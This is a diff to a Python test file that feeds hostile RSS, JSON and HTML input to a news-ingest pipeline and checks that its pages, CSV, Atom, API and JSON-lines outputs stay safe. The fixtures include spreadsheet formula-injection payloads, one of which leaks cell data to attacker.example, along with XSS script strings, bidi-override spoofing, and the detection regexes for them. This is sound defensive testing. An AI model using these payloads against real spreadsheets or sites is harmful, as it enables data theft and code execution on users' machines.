@@ -3,24 +3,39 @@
 Every case ends in a recorded error with its reason or in clean, safe articles, within the
 policy's timeouts, with no half-written row, and without the file read or the request the input
 asked for. The count of cases is printed at the end of the run (see test_corpus_size).
+
+What the pipeline stored is then read back through every output that hands it to someone else
+(OUTPUTS: the pages, the CSV export, the Atom feed, the API's JSON, the JSON-lines export), and
+each must be safe for its reader: no cell a spreadsheet takes for a formula, nothing a feed reader
+renders as HTML, no highlight mark that came from the text, no bidi override or other invisible
+character, one record per line. A new format (RIS, BibTeX, CSL-JSON) adds its reader to OUTPUTS.
 """
 
 from __future__ import annotations
 
+import csv
 import gzip
+import io
 import ipaddress
+import json
 import re
 import threading
 import time
-from collections.abc import Callable
+import xml.etree.ElementTree as ET
+from collections.abc import Callable, Iterator
 from dataclasses import dataclass
 from http.server import ThreadingHTTPServer
+from pathlib import Path
 
+import feedparser
 import pytest
+from django.core.cache import cache
+from django.core.management import call_command
+from django.test import Client
 
-from articles.ingest import IngestReport, url_ingest, url_ingest_run
+from articles.ingest import IngestReport, ParsedDocument, article_upsert, ingest_path, url_ingest, url_ingest_run
 from articles.ingest.fetch import FetchPolicy
-from articles.models import Article, FeedFetch, IngestItem, ItemStatus
+from articles.models import Article, ArticleVersion, CopyClaim, FeedFetch, IngestItem, ItemStatus
 
 from .conftest import LocalWeb
 
@@ -80,6 +95,8 @@ class Case:
     policy: str = "fast"  # "fast" (private addresses allowed), "guarded" (only 127.0.0.1) or "production"
     never_hit: str = ""  # a path on the other server that must see no request
     check: Callable[[], None] | None = None  # anything particular to the case
+    first: Callable[[LocalWeb], None] | None = None  # what is stored before the hostile input arrives
+    from_file: bool = False  # the served document is ingested as a local file (`ingest FILE`), not fetched
 
 
 def served(path: str, body: bytes | str, content_type: str = "text/html; charset=utf-8", **options):
@@ -239,6 +256,78 @@ PASHTO = (
     "<p>ویل شوي چې راتلونکې غونډه به په لسو ورځو کې په قطر کې جوړه شي او دواړه خواوې چمتو دي.</p>"
 )
 
+# Cells a spreadsheet would run: OWASP's list of formula starts, and a full-width "=".
+FORMULAS = (
+    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for the full report")',
+    "+cmd|' /C calc'!A0 Doha talks",
+    "-2+3+cmd|' /C calc'!A0 Doha talks",
+    "@SUM(1+1)*cmd|' /C calc'!A0 Doha talks",
+    '\uff1dHYPERLINK("http://attacker.example/")',
+)
+SCRIPT_AS_TEXT = "&lt;script&gt;alert(1)&lt;/script&gt; and &lt;img src=x onerror=alert(2)&gt; were in the text"
+KNOWN_STORY = "/ledger/doha-round"
+ORIGINAL_TITLE = "Khalilzad and Baradar meet in Doha as talks resume"
+
+
+def formula_feed(web: LocalWeb) -> str:
+    return "".join(
+        f"<item><title><![CDATA[{formula}]]></title><link>{web.url(f'/gone/formula/{i}')}</link>"
+        f"<author>desk@attacker.example (=1+1 {i})</author><pubDate>Tue, 10 Mar 2020 10:00:00 +0000</pubDate>"
+        f"<description><![CDATA[<p>{formula}</p>{PARAGRAPHS.replace('Tuesday', f'day {i}')}]]></description></item>"
+        for i, formula in enumerate(FORMULAS)
+    )
+
+
+def invisible_feed(web: LocalWeb) -> str:
+    return (
+        "<item><title>Doha \u202etxt.exe\u202c talks\u200b\ufeff resume</title>"
+        f"<link>{web.url('/gone/bidi')}</link><author>desk@hostile.example (By \u2066Jane\u2069 \u200fDoe)</author>"
+        "<pubDate>Tue, 10 Mar 2020 10:00:00 +0000</pubDate>"
+        f"<description><![CDATA[<p>\u202eKABUL\u202c \u200e\u2067{PARAGRAPHS[3:]}]]></description></item>"
+    )
+
+
+def known_story(web: LocalWeb) -> None:
+    """The article a hostile item will name: stored from its own outlet before the hostile input."""
+    article_upsert(document=ParsedDocument(
+        url=web.url(KNOWN_STORY), title=ORIGINAL_TITLE, source_name="The Kabul Ledger",
+        body=re.sub(r"</?p>", "\n\n", PARAGRAPHS).strip(),
+    ))
+
+
+def fake_of_known_story(web: LocalWeb) -> str:
+    return rss_item(f"FAKE: {ORIGINAL_TITLE}", web.url(KNOWN_STORY),
+                    content="<p>FAKE: the talks collapsed and the envoy flew home, says an item of Hostile Feed.</p>")
+
+
+def original_untouched(*, copies: int) -> Callable[[], None]:
+    """The named article still says what its outlet wrote; the other outlet's item, if stored, is apart."""
+    def check() -> None:
+        original = Article.objects.get(title=ORIGINAL_TITLE)
+        assert original.source.name == "The Kabul Ledger" and "FAKE" not in original.body
+        assert not ArticleVersion.objects.exists()
+        claims = CopyClaim.objects.all()
+        assert len(claims) == copies and all(claim.original == original for claim in claims)
+        assert all(claim.article.url.startswith("urn:newsroom:copy:") and claim.article.source.name == "Hostile Feed"
+                   for claim in claims)
+    return check
+
+
+def stored_as(*, title: str = "", byline: str = "", source: str = "") -> Callable[[], None]:
+    def check() -> None:
+        article = only_article()
+        assert (article.title if title else "", article.byline if byline else "") == (title, byline)
+        assert not source or article.source.name == source
+    return check
+
+
+def titles_kept(*titles: str) -> Callable[[], None]:
+    """Stored as the outlet wrote them: neutralising a formula is the CSV writer's job, not storage's."""
+    def check() -> None:
+        assert set(titles) <= set(Article.objects.values_list("title", flat=True))
+    return check
+
+
 CASES: list[Case] = [
     # Malformed and truncated XML
     Case("truncated-rss", feed_of(lambda w: rss_item("Doha talks resume", w.url("/gone/1")) + "<item><title>Cut off mid"), "article",
@@ -318,14 +407,41 @@ CASES: list[Case] = [
          check=no_nul("NUL in a feed", "xy")),
     Case("nul-bytes-in-utf16-feed", feed_of(lambda w: rss_item("NUL\x00 in UTF-16", w.url("/gone/12")), head='<?xml version="1.0" encoding="UTF-16"?>', encoding="utf-16"),
          "article", check=no_nul("NUL in UTF-16")),
-    Case("date-far-past", feed_of(lambda w: rss_item("Dated in 1066", w.url("/gone/8"), date="Sat, 14 Oct 1066 09:00:00 +0000")), "article"),
-    Case("date-year-one", feed_of(lambda w: rss_item("Dated in year one", w.url("/gone/9"), date="Mon, 01 Jan 0001 00:00:00 +0000")), "article"),
+    Case("date-far-past", feed_of(lambda w: rss_item("Dated in 1066", w.url("/gone/8"), date="Sat, 14 Oct 1066 09:00:00 +0000")), "article",
+         check=assert_published_year(None)),
+    Case("date-year-one", feed_of(lambda w: rss_item("Dated in year one", w.url("/gone/9"), date="Mon, 01 Jan 0001 00:00:00 +0000")), "article",
+         check=assert_published_year(None)),
     Case("date-far-future", feed_of(lambda w: rss_item("Dated in 9999", w.url("/gone/10"), date="Fri, 31 Dec 9999 23:59:59 -1200")), "article"),
     Case("date-nonsense", feed_of(lambda w: rss_item("Dated nonsense", w.url("/gone/11"), date="the 45th of Smarch")), "article"),
     # Scripts and directions of other languages
     Case("right-to-left-override", served("/rlo", page("Doha \u202etxt.exe\u202c talks", "<p>\u202eReversed\u202c and \u200fmarked\u200f text.</p>")), "article"),
     Case("dari-page", served("/dari", page("گفتگوهای صلح در دوحه", paragraphs=DARI, lang="fa", dir_="rtl")), "article", check=assert_body_contains("زلمی خلیلزاد")),
     Case("pashto-page", served("/pashto", page("په دوحه کې د سولې خبرې", paragraphs=PASHTO, lang="ps", dir_="rtl")), "article", check=assert_body_contains("عبدالغني برادر")),
+    # What Newsroom hands on: formulas, markup as text, invisible characters, claims on known URLs
+    Case("formula-titles-bylines-and-bodies", feed_of(formula_feed), "article", check=titles_kept(*FORMULAS[:4])),
+    Case("formula-in-a-feed-file", feed_of(formula_feed), "article", from_file=True, check=titles_kept(*FORMULAS[:4])),
+    Case("script-as-text-in-a-body", feed_of(lambda w: rss_item("Payloads written as words", w.url("/gone/words"),
+                                                                content=f"<p>{SCRIPT_AS_TEXT}.</p>" + PARAGRAPHS)),
+         "article", check=assert_body_contains("<script>alert(1)</script>")),
+    Case("script-as-text-in-json-feed", json_feed('"items": [{"id": "t", "url": "http://127.0.0.1:9/gone/t", "title": "<b>Bold</b> claims", '
+                                                  '"content_text": "<script>alert(1)</script> and <img src=x onerror=alert(2)> as plain text.\\n\\n'
+                                                  + re.sub(r"</?p>", " ", PARAGRAPHS).strip() + '"}]'),
+         "article", check=assert_body_contains("<img src=x onerror=alert(2)>")),
+    Case("bidi-and-zero-width-in-title-byline-and-outlet", feed_of(invisible_feed, head='<?xml version="1.0" encoding="UTF-8"?>'),
+         "article", check=stored_as(title="Doha txt.exe talks resume", byline="Jane Doe")),
+    Case("bidi-override-in-outlet-name", served("/outlet", page("Outlet name trick").replace("Hostile Daily", "Hostile\u202e yliaD\u202c")),
+         "article", check=stored_as(source="Hostile yliaD")),
+    Case("private-use-markers-in-body", served("/pua", page("Private use in Doha", "<p>A \ue000injected\ue001 mark and \U000f0041 more.</p>")),
+         "article", check=assert_body_contains("A injected mark and more.")),
+    Case("control-characters-in-json-feed", json_feed('"items": [{"id": "c", "url": "http://127.0.0.1:9/gone/c", "title": "Doha\\u000b talks\\u001b[31m", '
+                                                      '"content_html": "' + PARAGRAPHS.replace("Tuesday", "Tuesday\\u2028evening\\u0085") + '"}]'),
+         "article", check=stored_as(title="Doha talks[31m")),
+    # Another outlet's item naming a stored article's URL: from a local file it is stored apart as a
+    # possible copy; a remote feed's is skipped as known. The original is never written over.
+    Case("foreign-feed-file-claims-a-known-url", feed_of(fake_of_known_story), "article", first=known_story, from_file=True,
+         check=original_untouched(copies=1)),
+    Case("foreign-remote-feed-lists-a-known-url", feed_of(fake_of_known_story), "article", first=known_story,
+         check=original_untouched(copies=0)),
 ]
 
 POLICIES = {
@@ -366,6 +482,7 @@ def stored_text() -> str:
     parts = []
     for model, fields in (
         (Article, ("title", "body", "body_html", "byline", "ingest_note", "url")),
+        (ArticleVersion, ("title", "body", "body_html", "byline")),
         (IngestItem, ("title", "feed_html", "page_html", "error", "page_note", "url")),
         (FeedFetch, ("error",)),
     ):
@@ -381,8 +498,98 @@ def assert_nothing_half_written() -> None:
     assert not Article.objects.filter(title="").exists()
 
 
+# Outputs: what each hands to its reader, read back as that reader would --------------------------
+
+# Format characters that reorder or hide text (bidi overrides, embeddings, isolates and marks,
+# zero-width characters, the BOM, soft hyphens) and private-use characters. The non-joiner and
+# joiner are left out: Persian, Pashto and Urdu words need them (the Dari and Pashto cases).
+INVISIBLE = re.compile(
+    "[\u00ad\u061c\u180e\u200b\u200e\u200f\u2028\u2029\u202a-\u202e\u2060-\u2064\u2066-\u2069\ufeff"
+    "\ufff9-\ufffb\ue000-\uf8ff\U000f0000-\U0010ffff]"
+)
+FORMULA_CELL = re.compile("^(?:[\t\r]|\\s*[=+\\-@\uff1d\uff0b\uff0d\uff20])")
+LIVE_MARKUP = re.compile(r"<script>|<img\b|<b>Bold|<iframe|<object|<embed", re.I)  # ours have <script src=...> only
+
+
+def page_output(client: Client) -> Iterator[tuple[str, str]]:
+    """Each article's page and versions page, and the list searched for a word of the corpus."""
+    for article in Article.objects.all():
+        for url in (article.get_absolute_url(), article.get_versions_url()):
+            html = client.get(url).content.decode()
+            assert not LIVE_MARKUP.search(html), (url, LIVE_MARKUP.search(html).group(0))
+            yield url, html
+    html = client.get("/articles/", {"relevant": "all", "q": "Doha"}).content.decode()
+    marked = re.findall(r"<mark>(.*?)</mark>", html, re.S)
+    assert all(text.lower().startswith("doha") for text in marked), marked  # our marks only, on the query's word
+    yield "list", html
+
+
+def csv_output(client: Client) -> Iterator[tuple[str, str]]:
+    """The CSV export read back as cells: none a spreadsheet would take for a formula."""
+    response = client.get("/articles/export.csv", {"relevant": "all"})
+    text = b"".join(response.streaming_content).decode()
+    csv.field_size_limit(20_000_000)  # the megabyte titles are one cell each
+    rows = list(csv.reader(io.StringIO(text)))
+    assert len(rows) == Article.objects.count() + 1
+    for row in rows:
+        for cell in row:
+            assert not FORMULA_CELL.match(cell), cell[:80]
+    yield "csv", text
+
+
+def atom_output(client: Client) -> Iterator[tuple[str, str]]:
+    """The Atom feed: well-formed XML, and nothing declared HTML, so a reader renders nothing of the text."""
+    response = client.get("/articles/feed/", {"relevant": "all"})
+    assert response.status_code == 200
+    xml = response.content.decode()
+    ET.fromstring(response.content)  # noqa: S314 (our own feed)
+    assert 'type="html"' not in xml and 'type="xhtml"' not in xml
+    parsed = feedparser.parse(response.content, sanitize_html=False)
+    assert not parsed.bozo, parsed.get("bozo_exception")
+    assert len(parsed.entries) == min(Article.objects.count(), 50)
+    for entry in parsed.entries:
+        for detail in ("title_detail", "summary_detail"):
+            assert entry[detail]["type"] == "text/plain", (detail, entry[detail])
+    yield "atom", xml
+
+
+def api_output(client: Client) -> Iterator[tuple[str, str]]:
+    """The API's list, each article and its versions: JSON whose URLs are web addresses or our own identifiers."""
+    listing = client.get("/api/articles/", {"relevant": "all", "page_size": 100})
+    yield "api list", listing.content.decode()
+    for item in listing.json()["results"]:
+        for url in (f"/api/articles/{item['id']}/", f"/api/articles/{item['id']}/versions/"):
+            response = client.get(url)
+            assert response.status_code == 200 and response["Content-Type"] == "application/json"
+            yield url, response.content.decode()
+        assert item["url"].startswith(("http://", "https://", "urn:")), item["url"]
+
+
+def jsonl_output(client: Client) -> Iterator[tuple[str, str]]:
+    """The JSON-lines export: one record a line, for any line splitter (str.splitlines splits on more than \\n)."""
+    out = io.StringIO()
+    call_command("export_articles", stdout=out)
+    lines = out.getvalue().splitlines()
+    assert len(lines) == Article.objects.count()
+    assert [json.loads(line)["id"] for line in lines] == sorted(Article.objects.values_list("id", flat=True))
+    yield "jsonl", out.getvalue()
+
+
+OUTPUTS = (page_output, csv_output, atom_output, api_output, jsonl_output)
+
+
+def assert_outputs_safe(client: Client) -> None:
+    cache.clear()  # the API's throttle counts requests in the cache, across the cases
+    for output in OUTPUTS:
+        for where, text in output(client):
+            found = INVISIBLE.search(text)
+            assert found is None, (output.__name__, where, hex(ord(found.group())))
+
+
 @pytest.mark.parametrize("case", CASES, ids=[case.id for case in CASES])
-def test_hostile_input(case: Case, web, other_web):
+def test_hostile_input(case: Case, web, other_web, client, tmp_path):
+    if case.first:
+        case.first(web)
     target = case.serve(web, other_web)
     url = target if target.startswith("http") else web.url(target)
     policy = POLICIES[case.policy]
@@ -392,6 +599,10 @@ def test_hostile_input(case: Case, web, other_web):
     if case.expect == "queued":
         outcome = url_ingest(url=url, policy=policy)
         assert outcome.error == "" and outcome.kind == "feed"
+    elif case.from_file:
+        path = tmp_path / Path(target).name
+        path.write_bytes(web.routes[target].body)
+        ingest_path(path, report=report)
     else:
         url_ingest_run(url=url, report=report, policy=policy)
 
@@ -409,7 +620,8 @@ def test_hostile_input(case: Case, web, other_web):
         assert report.failures == [], report.failures
         assert Article.objects.exists()
     for article in Article.objects.all():
-        assert not UNSAFE.search(article.body_html), (case.id, UNSAFE.search(article.body_html).group(0))
+        markup = re.sub(r">[^<]*<", "><", article.body_html)  # the tags alone: "onerror=" written as text is text
+        assert not UNSAFE.search(markup), (case.id, UNSAFE.search(markup).group(0))
         assert not article.url.lower().startswith(("javascript:", "data:"))
     assert SECRET_FILE_MARK not in stored_text()
     if case.never_hit:
@@ -417,6 +629,8 @@ def test_hostile_input(case: Case, web, other_web):
     if case.check:
         case.check()
     assert_nothing_half_written()
+    if Article.objects.exists():
+        assert_outputs_safe(client)
 
 
 def test_corpus_size(capsys):
